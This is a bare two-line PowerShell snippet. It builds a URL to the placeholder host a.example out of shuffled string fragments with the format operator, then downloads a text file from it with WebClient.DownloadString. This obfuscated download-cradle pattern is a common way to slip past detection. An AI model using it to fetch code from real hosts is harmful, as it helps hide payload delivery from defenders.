$wc = New-Object System.Net.WebClient
$wc.DownloadString(('{2}{0}{1}' -f 'a.exam','ple/p/x.txt','http://'))
